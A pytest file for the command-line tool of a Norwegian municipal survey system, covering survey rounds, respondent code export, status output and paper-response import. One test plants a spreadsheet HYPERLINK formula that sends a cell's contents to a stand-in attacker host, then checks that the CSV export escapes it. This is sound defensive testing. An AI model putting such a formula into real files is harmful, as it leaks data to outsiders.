"""`helhet round ...` (older tests use its old name, `campaign`) and `helhet responses import`."""

import csv
import json

from sqlalchemy import func, select

from collector import codes
from collector.clock import parse_local
from collector.models import Campaign, Invitation, Response
from helhet.extensions import db
from tests.collector import factories, helpers, pdftext


def create(runner, *extra):
    return runner.invoke(
        args=[
            "campaign",
            "create",
            "--questionnaire",
            "test",
            "--unit",
            "4601-helse-hjemme",
            "--opens",
            "2026-01-01",
            "--closes",
            "2099-03-31",
            *extra,
        ]
    )


def test_campaign_create_prints_the_round_id_alone(runner, tree):
    factories.make_questionnaire()
    result = create(runner, "--unit", "4601-helse-sykehjem")
    assert result.exit_code == 0, result.output
    campaign = db.session.scalars(select(Campaign)).one()
    assert result.stdout.strip() == str(campaign.id)
    assert sorted(cu.unit.code for cu in campaign.units) == [
        "4601-helse-hjemme",
        "4601-helse-sykehjem",
    ]


def test_campaign_create_reads_dates_as_norwegian_days(runner, tree):
    factories.make_questionnaire()
    create(runner)
    campaign = db.session.scalars(select(Campaign)).one()
    assert campaign.opens_at == parse_local("2026-01-01")
    assert campaign.closes_at == parse_local("2099-04-01")  # through the whole of 31 March
    assert campaign.min_group == 5 and campaign.use_codes and not campaign.open_link


def test_campaign_create_uses_the_latest_published_version(runner, tree):
    factories.make_questionnaire(version=1)
    newest = factories.make_questionnaire(version=2)
    factories.make_questionnaire(version=3, published=False)
    create(runner)
    assert db.session.scalars(select(Campaign)).one().questionnaire_id == newest.id


def test_campaign_create_with_codes_writes_them_to_a_csv_file(runner, tree, tmp_path):
    factories.make_questionnaire()
    out = tmp_path / "koder.csv"
    letters = tmp_path / "brev.pdf"
    result = create(
        runner,
        "--unit",
        "4601-helse-sykehjem",
        "--codes",
        "3",
        "--codes-file",
        str(out),
        "--letters",
        str(letters),
        "--base-url",
        "https://svar.kommune.no",
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    assert len(rows) == 6
    stored = set(db.session.scalars(select(Invitation.code_hash)))
    assert {codes.code_hash(codes.normalise(r["code"])) for r in rows} == stored
    assert pdftext.page_count(letters.read_bytes()) == 6


def test_campaign_create_refuses_codes_without_a_file(runner, tree):
    factories.make_questionnaire()
    result = create(runner, "--codes", "3")
    assert result.exit_code == 1
    assert "--codes-file" in result.output
    assert db.session.scalar(select(func.count()).select_from(Campaign)) == 0


def test_campaign_create_refuses_a_minimum_group_below_3(runner, tree):
    factories.make_questionnaire()
    result = create(runner, "--min-group", "2")
    assert result.exit_code == 1
    assert "cannot be below 3" in result.output


def test_campaign_create_refuses_an_unknown_questionnaire_or_unit(runner, tree):
    assert create(runner).exit_code == 1  # no questionnaire yet
    factories.make_questionnaire()
    result = create(runner, "--unit", "nope")
    assert result.exit_code == 1 and "nope" in result.output


def test_campaign_codes_adds_codes_for_one_unit(runner, tmp_path, tree):
    open_round = factories.make_open_round(tree)
    out = tmp_path / "flere.csv"
    result = runner.invoke(
        args=[
            "campaign",
            "codes",
            str(open_round.campaign.id),
            "--unit",
            "4601-helse-hjemme",
            "--count",
            "5",
            "--out",
            str(out),
            "--base-url",
            "https://svar.kommune.no",
        ]
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    assert len(rows) == 5 and rows[0]["address"] == "https://svar.kommune.no/svar"
    assert db.session.scalar(select(func.count()).select_from(Invitation)) == 3 + 5
    client = runner.app.test_client()
    assert helpers.enter_code(client, rows[0]["code"]).status_code == 303


def test_campaign_codes_never_overwrites_a_file(runner, tmp_path, tree):
    open_round = factories.make_open_round(tree)
    out = tmp_path / "koder.csv"
    out.write_text("earlier codes")
    result = runner.invoke(
        args=[
            "campaign",
            "codes",
            str(open_round.campaign.id),
            "--unit",
            "4601-helse-hjemme",
            "--count",
            "5",
            "--out",
            str(out),
        ]
    )
    assert result.exit_code == 1
    assert out.read_text() == "earlier codes"
    assert db.session.scalar(select(func.count()).select_from(Invitation)) == 3


def test_campaign_codes_refuses_a_unit_outside_the_round(runner, tmp_path, tree):
    open_round = factories.make_open_round(tree)
    result = runner.invoke(
        args=[
            "campaign",
            "codes",
            str(open_round.campaign.id),
            "--unit",
            "4601-oppvekst-skole",
            "--count",
            "5",
            "--out",
            str(tmp_path / "x.csv"),
        ]
    )
    assert result.exit_code == 1
    assert "not part of this round" in result.output
    assert not (tmp_path / "x.csv").exists()


def test_campaign_status_as_json_gives_population_responses_and_rate_per_unit(runner, tree):
    open_round = factories.make_open_round(tree)
    helpers.answer_with_code(
        runner.app.test_client(), open_round.questionnaire, open_round.codes[0]
    )
    result = runner.invoke(
        args=["campaign", "status", str(open_round.campaign.id), "--format", "json"]
    )
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert data["state"] == "open"
    (unit,) = data["units"]
    assert (unit["code"], unit["population"], unit["responses"]) == ("4601-helse-hjemme", 45, 1)
    assert unit["response_rate"] == round(1 / 45, 4)
    assert unit["codes"] == {"issued": 3, "in_progress": 0, "used": 1}


def test_campaign_status_of_an_unknown_round_fails(runner, app):
    result = runner.invoke(args=["campaign", "status", "999"])
    assert result.exit_code == 1 and "999" in result.output


def test_campaign_extend_and_close(runner, tree):
    open_round = factories.make_open_round(tree)
    campaign_id = str(open_round.campaign.id)
    assert (
        runner.invoke(args=["campaign", "extend", campaign_id, "--closes", "2099-12-31"]).exit_code
        == 0
    )
    db.session.refresh(open_round.campaign)
    assert open_round.campaign.closes_at == parse_local("2100-01-01")
    assert runner.invoke(args=["campaign", "close", campaign_id]).exit_code == 0
    db.session.refresh(open_round.campaign)
    assert open_round.campaign.state().value == "closed"
    assert runner.invoke(args=["campaign", "close", campaign_id]).exit_code == 1


def test_campaign_list_shows_every_round(runner, tree):
    factories.make_open_round(tree)
    result = runner.invoke(args=["campaign", "list", "--format", "json"])
    assert [r["name"] for r in json.loads(result.stdout)] == ["Testrunde"]


def test_responses_import_stores_paper_answers(runner, tmp_path, tree):
    open_round = factories.make_open_round(tree)
    file = tmp_path / "papir.csv"
    file.write_text(
        'unit,s1q1,x_multiple\n4601-helse-hjemme,5,"a;b"\n4601-helse-hjemme,dk,\n', encoding="utf-8"
    )
    result = runner.invoke(args=["responses", "import", str(open_round.campaign.id), str(file)])
    assert result.exit_code == 0, result.output
    assert "Imported 2 responses" in result.output
    assert db.session.scalar(select(func.count()).select_from(Response)) == 2


def test_responses_import_reports_every_error_and_imports_nothing(runner, tmp_path, tree):
    open_round = factories.make_open_round(tree)
    file = tmp_path / "papir.csv"
    file.write_text(
        "unit,s1q1,x_number\n4601-helse-hjemme,7,12\n4601-helse-hjemme,3,hundre\n", encoding="utf-8"
    )
    result = runner.invoke(args=["responses", "import", str(open_round.campaign.id), str(file)])
    assert result.exit_code == 1
    assert "Line 2, column s1q1" in result.output
    assert "Line 3, column x_number" in result.output
    assert db.session.scalar(select(func.count()).select_from(Response)) == 0


def test_purge_drafts_removes_open_link_drafts_of_closed_rounds(runner, tree):
    open_round = factories.make_open_round(tree)
    client = runner.app.test_client()
    client.post(f"/s/{open_round.campaign.units[0].link_token}", data={"action": "start"})
    helpers.enter_code(runner.app.test_client(), open_round.codes[0])
    open_round.campaign.closes_at = open_round.campaign.opens_at
    db.session.commit()
    result = runner.invoke(args=["campaign", "purge-drafts"])
    assert "1 open-link drafts removed" in result.output


def issue_codes(runner, open_round, out, *extra):
    return runner.invoke(
        args=[
            "campaign",
            "codes",
            str(open_round.campaign.id),
            "--unit",
            "4601-helse-hjemme",
            "--count",
            "2",
            "--out",
            str(out),
            *extra,
        ]
    )


def test_campaign_codes_without_a_public_address_refuses_and_issues_nothing(runner, tmp_path, tree):
    open_round = factories.make_open_round(tree)
    out, letters = tmp_path / "koder.csv", tmp_path / "brev.pdf"
    result = issue_codes(runner, open_round, out, "--letters", str(letters))
    assert result.exit_code == 1
    assert "http://127.0.0.1:5000/svar" in result.output and "--base-url" in result.output
    assert "PUBLIC_BASE_URL is not set" in result.output
    assert not out.exists() and not letters.exists()
    assert db.session.scalar(select(func.count()).select_from(Invitation)) == 3


def test_campaign_codes_refuses_a_public_base_url_on_this_computer(runner, tmp_path, tree):
    open_round = factories.make_open_round(tree)
    runner.app.config["PUBLIC_BASE_URL"] = "http://localhost:8000"
    result = issue_codes(runner, open_round, tmp_path / "koder.csv")
    assert result.exit_code == 1
    assert "PUBLIC_BASE_URL is http://localhost:8000" in result.output
    assert db.session.scalar(select(func.count()).select_from(Invitation)) == 3


def test_campaign_codes_prints_the_public_base_url(runner, tmp_path, tree):
    open_round = factories.make_open_round(tree)
    runner.app.config["PUBLIC_BASE_URL"] = "https://svar.kommune.no/"
    out = tmp_path / "koder.csv"
    result = issue_codes(runner, open_round, out)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    assert {r["address"] for r in rows} == {"https://svar.kommune.no/svar"}
    assert "Warning" not in result.output


def test_campaign_codes_takes_a_loopback_base_url_when_asked_for_it_with_a_warning(
    runner, tmp_path, tree
):
    open_round = factories.make_open_round(tree)
    out = tmp_path / "koder.csv"
    result = issue_codes(runner, open_round, out, "--base-url", "http://127.0.0.1:5055")
    assert result.exit_code == 0, result.output
    assert "Warning: the letters send respondents to http://127.0.0.1:5055/svar" in result.stderr
    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    assert {r["address"] for r in rows} == {"http://127.0.0.1:5055/svar"}


def test_campaign_create_with_codes_without_a_public_address_creates_nothing(
    runner, tmp_path, tree
):
    factories.make_questionnaire()
    out = tmp_path / "koder.csv"
    result = create(runner, "--codes", "3", "--codes-file", str(out))
    assert result.exit_code == 1
    assert "--base-url" in result.output
    assert not out.exists()
    assert db.session.scalar(select(func.count()).select_from(Campaign)) == 0
    assert db.session.scalar(select(func.count()).select_from(Invitation)) == 0


def test_the_mail_merge_file_from_the_command_line_shows_a_formula_unit_name_as_text(
    runner, tmp_path, tree
):
    open_round = factories.make_open_round(tree)
    name = '=HYPERLINK("https://evil.example/?"&A2;"Klikk her")'
    open_round.unit.name = name
    db.session.commit()
    out = tmp_path / "koder.csv"
    result = issue_codes(runner, open_round, out, "--base-url", "https://svar.kommune.no")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    assert [r["unit_name"] for r in rows] == ["'" + name] * 2


def keys_in(data) -> set[str]:
    if isinstance(data, dict):
        return set(data) | {k for value in data.values() for k in keys_in(value)}
    if isinstance(data, list):
        return {k for item in data for k in keys_in(item)}
    return set()


def test_round_status_prints_the_same_as_campaign_status_as_text_and_json(runner, tree):
    open_round = factories.make_open_round(tree)
    helpers.answer_with_code(
        runner.app.test_client(), open_round.questionnaire, open_round.codes[0]
    )
    for extra in ([], ["--format", "json"]):
        new = runner.invoke(args=["round", "status", str(open_round.campaign.id), *extra])
        old = runner.invoke(args=["campaign", "status", str(open_round.campaign.id), *extra])
        assert new.exit_code == 0, new.output
        assert (new.exit_code, new.stdout, new.stderr) == (old.exit_code, old.stdout, old.stderr)
    assert "Testrunde" in new.stdout


def test_round_list_prints_the_same_as_campaign_list_as_text_and_json(runner, tree):
    factories.make_open_round(tree)
    for extra in ([], ["--format", "json"]):
        new = runner.invoke(args=["round", "list", *extra])
        old = runner.invoke(args=["campaign", "list", *extra])
        assert new.exit_code == 0, new.output
        assert (new.stdout, new.stderr) == (old.stdout, old.stderr)
    assert [r["name"] for r in json.loads(new.stdout)] == ["Testrunde"]


def test_round_close_closes_and_seals_and_campaign_close_then_answers_the_same(runner, tree):
    open_round = factories.make_open_round(tree)
    round_id = str(open_round.campaign.id)
    result = runner.invoke(args=["round", "close", round_id])
    assert result.exit_code == 0, result.output
    assert f"Round {round_id} is closed and sealed" in result.stdout
    db.session.refresh(open_round.campaign)
    assert (
        open_round.campaign.state().value == "closed" and open_round.campaign.sealed_at is not None
    )
    again_new = runner.invoke(args=["round", "close", round_id])
    again_old = runner.invoke(args=["campaign", "close", round_id])
    assert again_new.exit_code == again_old.exit_code == 1
    assert again_new.output == again_old.output


def test_the_json_of_round_status_and_list_says_round_never_campaign(runner, tree):
    open_round = factories.make_open_round(tree)
    status = json.loads(
        runner.invoke(
            args=["round", "status", str(open_round.campaign.id), "--format", "json"]
        ).stdout
    )
    listed = json.loads(runner.invoke(args=["round", "list", "--format", "json"]).stdout)
    assert not any("campaign" in key for key in keys_in(status) | keys_in(listed))


def test_help_lists_round_and_hides_the_old_name_campaign(runner):
    commands = runner.invoke(args=["--help"]).output.split("Commands:")[1].split()
    assert "round" in commands and "responses" in commands
    assert "campaign" not in commands
    assert "purge-drafts" in runner.invoke(args=["campaign", "--help"]).output


def test_round_status_and_list_say_the_last_day_as_people_read_it(runner, tree):
    open_round = factories.make_open_round(tree)
    open_round.campaign.closes_at = parse_local("2099-12-31", end_of_day=True)
    db.session.commit()
    status = runner.invoke(args=["round", "status", str(open_round.campaign.id)]).stdout
    listed = runner.invoke(args=["round", "list"]).stdout
    for text in (status, listed):
        assert "until and including 31 December 2099" in text
        assert "2100-01-01" not in text
    rows = json.loads(runner.invoke(args=["round", "list", "--format", "json"]).stdout)
    assert rows[0]["open_until"] == "until and including 31 December 2099"
    assert rows[0]["closes_at"] == "2100-01-01T00:00"  # JSON keeps the exclusive end
